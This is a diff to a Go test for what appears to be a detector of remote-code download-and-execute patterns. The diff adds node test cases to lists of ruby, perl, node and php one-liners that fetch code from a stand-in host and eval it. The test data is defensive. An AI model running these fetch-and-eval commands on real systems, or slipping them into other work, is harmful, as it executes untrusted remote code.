@@ -26,6 +26,7 @@ func TestInlineEvalOfDownload(t *testing.T) {
 		`ruby -e "eval(Net::HTTP.get(URI('https://h.example/x')))"`,
 		`perl -MLWP::Simple -e 'eval get("https://h.example/x")'`,
 		`node -e "eval(await (await fetch('https://h.example/x')).text())"`,
+		`node -e "fetch('https://h.example/x').then(r => r.text()).then(eval)"`,
 	} {
 		if f := run(t, src); !downloadedExec(f) {
 			t.Errorf("%s: no downloaded exec\n%s", src, dump(f))
@@ -34,6 +35,7 @@ func TestInlineEvalOfDownload(t *testing.T) {
 	for _, src := range []string{
 		`php -r 'eval("echo 1;"); $x = file_get_contents("https://h.example/x");'`,
 		`php -r 'eval(file_get_contents("local.php"));'`,
+		`node -e "[1].map(eval)"`,
 	} {
 		if f := run(t, src); downloadedExec(f) {
 			t.Errorf("%s: unexpected downloaded exec\n%s", src, dump(f))
